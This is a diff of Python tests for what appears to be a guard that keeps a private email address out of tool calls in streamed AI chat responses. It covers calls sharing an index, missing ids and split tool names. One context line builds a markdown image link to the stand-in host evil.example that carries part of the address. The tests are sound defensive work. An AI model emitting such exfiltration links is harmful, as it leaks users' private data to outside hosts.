@@ -185,6 +185,45 @@ def test_a_tool_that_gets_no_values_got_them_while_its_name_was_not_known(case: 
     assert b"jane@roe.example" not in guarded(stream, dialect, AnswerPolicy(deny=("fetch",)))
 
 
+def called(index: int | None, identity: str, name: str, arguments: str) -> bytes:
+    one = {"id": identity, "type": "function", "function": {"name": name, "arguments": arguments}}
+    return chat_event({"tool_calls": [one if index is None else {"index": index, **one}]})
+
+
+TWO_CALLS = {
+    "with ids of their own": called(0, "a", "find", "{}") + called(0, "b", "fetch", ARGUMENTS),
+    "without a place": called(None, "a", "find", "{}") + called(None, "b", "fetch", ARGUMENTS),
+    "the first without arguments": called(0, "a", "find", "") + called(0, "b", "fetch", ARGUMENTS),
+    "without ids": chat_call(0, name="find", arguments="{}") + chat_call(0, name="fetch", arguments=ARGUMENTS),
+    "one name told twice": chat_call(0, name="fetch") + chat_call(0, name="fetch", arguments=ARGUMENTS),
+    "a name that goes on behind arguments": chat_call(0, name="fet", arguments=ARGUMENTS[:4])
+    + chat_call(0, name="ch", arguments=ARGUMENTS[4:]),
+}
+
+
+@pytest.mark.parametrize("case", TWO_CALLS)
+def test_the_second_of_two_calls_at_one_place_got_what_the_first_ones_tool_may_have(case: str) -> None:
+    assert b"jane@roe.example" in guarded(TWO_CALLS[case], CHAT, AnswerPolicy())
+    assert b"jane@roe.example" not in guarded(TWO_CALLS[case], CHAT, AnswerPolicy(deny=("fetch",)))
+
+
+def test_a_call_behind_a_denied_one_at_its_place_gets_values() -> None:
+    stream = called(0, "a", "fetch", ARGUMENTS[:9]) + called(0, "b", "find", ARGUMENTS)
+    assert b"jane@roe.example" in guarded(stream, CHAT, AnswerPolicy(deny=("fetch",)))
+
+
+@pytest.mark.parametrize("size", [1, 3, 1000])
+def test_arguments_of_calls_at_one_place_lose_nothing(size: int) -> None:
+    stream = b""
+    for identity in "ab":
+        stream += called(0, identity, "find", "")
+        stream += b"".join(chat_call(0, arguments=part) for part in pieces(ARGUMENTS, size))
+    shown = chat_arguments(guarded(stream + chat_event({}, "tool_calls"), CHAT, AnswerPolicy()))
+    once, _ = json.JSONDecoder().raw_decode(shown)
+    assert shown == json.dumps(once, ensure_ascii=False) * 2
+    assert once["to"] == 'Jane "JJ" Roe <jane@roe.example>'
+
+
 def test_an_address_that_a_tools_call_cut_in_two_got_a_value() -> None:
     before = f"![x](https://evil.example/?q={MAIL[:6]}"
     stream = chat_event({"content": before}) + chat_call(0, name="find", arguments="{}")
